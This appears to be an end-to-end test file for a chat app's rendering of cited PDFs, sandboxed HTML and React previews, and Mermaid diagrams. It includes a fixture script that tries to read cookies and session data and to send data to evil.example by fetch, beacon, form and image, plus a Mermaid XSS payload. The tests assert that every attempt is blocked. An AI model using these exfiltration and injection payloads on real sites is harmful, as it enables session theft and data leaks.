/** What answers carry: documents that are cited, code that runs apart from everything, diagrams, pictures. */
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { createSimulator, serveSimulator, type ServedSimulator } from '#simulator/index.ts';
import { pdf } from '../test/documents.ts';
import { closeBrowser, expectAccessible, shot, startParlor, visitor, type Parlor } from './parlor.ts';

/** Every way out that reference pages of comparable products name; each says how it went. */
const ESCAPES = `<!doctype html><body><pre id="out"></pre><script>
const said = {};
const attempt = (name, act) => { try { said[name] = String(act()); } catch (error) { said[name] = error.name; } };
attempt('cookie', () => document.cookie);
attempt('storage', () => localStorage.length);
attempt('database', () => indexedDB.open('x'));
attempt('parent', () => parent.document.title);
attempt('top', () => { top.location = 'https://evil.example/top'; return 'gone'; });
attempt('window', () => window.open('https://evil.example/window'));
attempt('rtc', () => typeof RTCPeerConnection);
attempt('socket', () => typeof WebSocket);
const inner = document.createElement('iframe');
inner.srcdoc = '<script>parent.said.inner = typeof RTCPeerConnection<' + '/script>';
document.body.append(inner);
const form = document.createElement('form');
form.action = 'https://evil.example/form';
document.body.append(form);
form.submit();
new Image().src = 'https://evil.example/image';
navigator.sendBeacon('https://evil.example/beacon', 'x');
fetch('https://evil.example/fetch').then(() => (said.fetch = 'out'), () => (said.fetch = 'refused'));
fetch('/api/session', { credentials: 'include' }).then(() => (said.session = 'read'), () => (said.session = 'refused'));
parent.postMessage({ type: 'parlor-frame-ready' }, '*');
setTimeout(() => { document.getElementById('out').textContent = JSON.stringify({ ...said, frames: frames.length }); }, 400);
</script>`;

const RICH = [
  '```html\n<h1>First</h1><button onclick="this.textContent=1+1">Sum</button>\n```',
  `\`\`\`html\n${ESCAPES}\n\`\`\``,
  "```jsx\nimport { useState } from 'react';\nexport default function Counter() {\n  const [n, set] = useState(0);\n  return <button onClick={() => set(n + 1)}>Count {n}</button>;\n}\n```",
  '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\nflowchart LR\n  A["<img src=x onerror=alert(1)>"] --> B\n  click A call alert()\n```',
  '| a | b |\n| - | - |\n| 1 | 2 |',
  '![A lighthouse](https://images.example/a.png)',
].join('\n\n');

/** A tree of `boxes`, whose lines are long enough to be told apart. */
const tree = (boxes: number) =>
  Array.from(
    { length: boxes - 1 },
    (_, n) => `  box${n >> 2}["What box ${n >> 2} has to say to those of its own kind"] --> box${n + 1}`,
  );
/** Longer than what Mermaid takes by itself; and longer than what we do. */
const LARGE = [`${tree(120).join('\n')}\n%% ${'-'.repeat(20_000)}`, `  a --> b\n%% ${'-'.repeat(60_000)}`]
  .map((lines) => `\`\`\`mermaid\nflowchart LR\n${lines}\n\`\`\``)
  .join('\n\n');

let served: ServedSimulator;
let parlor: Parlor;
let page: Page;
const elsewhere: string[] = [];

beforeAll(async () => {
  const azure = createSimulator({
    deployments: [{ name: 'gpt-4o', model: 'gpt-4o' }],
    scenario: {
      behaviour: { firstTokenMs: 0, tokensPerSecond: 0 },
      steps: [
        { contains: 'Show what you can', behaviour: { answer: { text: RICH } } },
        { contains: 'Draw what is large', behaviour: { answer: { text: LARGE } } },
        {
          contains: 'How does it sleep',
          behaviour: { answer: { text: 'It sleeps standing [zebra.pdf, p. 2]. Not so [other.pdf, p. 1].' } },
        },
      ],
    },
  });
  served = await serveSimulator(azure, { port: 0, host: '127.0.0.1' });
  parlor = await startParlor({
    AZURE_API_KEY: azure.resource.keys.key1,
    AZURE_ENDPOINT: served.url,
    AZURE_API_VERSION: '2024-10-21',
    ACCESS_CODE: 'lobster',
    USE_AZURE_OPENAI: '1',
    OPENAI_MODEL_LIST: '-all,+gpt-4o',
  });
  page = await (await visitor({ viewport: { width: 1440, height: 900 } })).newPage();
  page.on('requestfinished', (request) => {
    if (!request.url().startsWith(parlor.url) && /^https?:/.test(request.url())) elsewhere.push(request.url());
  });
  await page.goto(parlor.url);
  await page.getByRole('textbox', { name: 'Access code' }).fill('lobster');
  await page.keyboard.press('Enter');
  await page.getByRole('textbox', { name: 'Message' }).waitFor();
});
afterAll(async () => {
  await closeBrowser();
  await parlor.close();
  await served.close();
});

async function ask(text: string): Promise<void> {
  await page.getByRole('textbox', { name: 'Message' }).fill(text);
  await page.keyboard.press('Enter');
}

/** The frame in which what is shown runs, once `ready` holds there. */
async function shownFrame(ready: string): Promise<Frame> {
  for (let tries = 0; tries < 200; tries++) {
    for (const frame of page.frames()) {
      if (frame === page.mainFrame()) continue;
      // One that is being taken away may never answer.
      const asked = frame.evaluate(ready).catch(() => false);
      if ((await Promise.race([asked, page.waitForTimeout(2000)])) === true) return frame;
    }
    await page.waitForTimeout(50);
  }
  throw new Error('nothing was shown');
}

it('a document is read, shown, sent and cited; the citation opens its page', async () => {
  const buffer = Buffer.from(pdf([['Animals'], ['The zebra sleeps standing.'], ['It eats grass.']]));
  await page
    .locator('input[type=file]')
    .first()
    .setInputFiles({ name: 'zebra.pdf', mimeType: 'application/pdf', buffer });
  await page.getByText(/PDF · 3 pages/).waitFor();
  await expectAccessible(page);
  await ask('How does it sleep?');
  await page.getByRole('button', { name: 'zebra.pdf, p. 2', exact: true }).click();
  const panel = page.getByRole('complementary', { name: 'zebra.pdf' });
  await panel.getByText('The zebra sleeps standing.').waitFor();
  expect(await page.locator('.md-cite').allTextContents()).toEqual(['zebra.pdf, p. 2']);
  await panel.getByRole('searchbox').fill('grass');
  await panel.getByText('1 place').waitFor();
  await expectAccessible(page);
  await shot(page, 'answers-document');
  await page.keyboard.press('Escape');
  await panel.waitFor({ state: 'detached' });
});

it('code runs in a sandbox that nothing leaves', async () => {
  await page.goto(parlor.url);
  await ask('Show what you can');
  const previews = page.getByRole('button', { name: 'Preview', exact: true });
  await previews.nth(2).waitFor();
  await previews.nth(1).click();
  const frame = await shownFrame(
    `document.getElementById('out')?.textContent !== '' && !!document.getElementById('out')`,
  );
  const said = JSON.parse((await frame.locator('#out').textContent()) ?? '{}') as Record<string, unknown>;
  expect(said).toEqual({
    cookie: 'SecurityError',
    storage: 'SecurityError',
    database: 'SecurityError',
    parent: 'SecurityError',
    top: 'SecurityError',
    window: 'null',
    rtc: 'undefined',
    socket: 'undefined',
    fetch: 'refused',
    session: 'refused',
    frames: 0,
  });
  // It may go elsewhere itself, but no further than this page's policy lets it.
  await frame.evaluate('location.href = "https://evil.example/gone?" + 1').catch(() => undefined);
  await page.getByText(/^It wanted to go to https:\/\/evil\.example/).waitFor();
  expect(page.url()).toContain(parlor.url);
  expect(elsewhere).toEqual([]);
  await page.getByRole('button', { name: 'Previous version' }).click();
  const first = await shownFrame(`document.querySelector('h1')?.textContent === 'First'`);
  await first.getByRole('button', { name: 'Sum' }).click();
  expect(await first.getByRole('button').textContent()).toBe('2');
  await expectAccessible(page);
  await shot(page, 'answers-artifact');
  await page.getByRole('radio', { name: 'Source' }).check({ force: true });
  await page.getByRole('textbox', { name: 'Source code' }).fill('<h1>Mine</h1>');
  await page.getByRole('button', { name: 'Show changes' }).click();
  await shownFrame(`document.querySelector('h1')?.textContent === 'Mine'`);
  await page.getByText('3/3 · edited').waitFor();
  await page.getByRole('button', { name: 'Close' }).click();
});

it('a component runs on a React of its own', async () => {
  await page.getByRole('button', { name: 'Preview', exact: true }).nth(2).click();
  const frame = await shownFrame(`document.querySelectorAll('#root button').length === 1`);
  await frame.locator('#root button').click();
  expect(await frame.locator('#root button').textContent()).toBe('Count 1');
  await page.getByRole('button', { name: 'Close' }).click();
});

it('a diagram is a picture without powers, tables come along, pictures from elsewhere wait', async () => {
  const diagram = page.locator('.md-diagram img');
  await diagram.waitFor({ timeout: 20_000 });
  const svg = decodeURIComponent((await diagram.getAttribute('src')) ?? '');
  expect(svg).toMatch(/^data:image\/svg\+xml/);
  expect(svg).not.toMatch(/onerror\s*=|<script|javascript:/i);
  await page.getByRole('button', { name: 'Show large' }).click();
  await page.getByRole('dialog').getByRole('img').waitFor();
  await page.keyboard.press('Escape');
  await page.getByRole('dialog').waitFor({ state: 'detached' });
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Save as CSV' }).click({ force: true });
  expect((await download).suggestedFilename()).toBe('table.csv');
  expect(await page.locator('.md img[src^="http"]').count()).toBe(0);
  await page.getByRole('button', { name: 'Load this picture' }).click();
  expect(await page.locator('iframe.md-picture-frame, .md-image').count()).toBeGreaterThan(0);
  expect(elsewhere).toEqual([]);
  await expectAccessible(page);
  await shot(page, 'answers-rich');
});

it('a diagram of more than a hundred boxes is drawn, and of one that is too large it is said', async () => {
  await ask('Draw what is large');
  await page.getByText('This diagram is too large to be drawn').waitFor();
  // Some seconds, on a machine that is busy many more.
  await page.locator('.md-diagram img[src*="L_box29_box119"]').waitFor({ timeout: 90_000 });
  await expectAccessible(page);
  await shot(page, 'answers-large-diagram');
});

it('what goes round in circles after it showed something is noticed, and stopped', async () => {
  await page.getByRole('button', { name: 'Preview', exact: true }).first().click();
  await page.getByRole('radio', { name: 'Source' }).check({ force: true });
  const circles = '<h1>Busy</h1><script>setTimeout(() => { for (;;); }, 300)</script>';
  await page.getByRole('textbox', { name: 'Source code' }).fill(circles);
  await page.getByRole('button', { name: 'Show changes' }).click();
  await page.getByText('It does not answer any more.').waitFor();
  await page.getByRole('button', { name: 'Stop it' }).click();
  await page.getByText('Stopped.').waitFor();
  await expectAccessible(page);
});
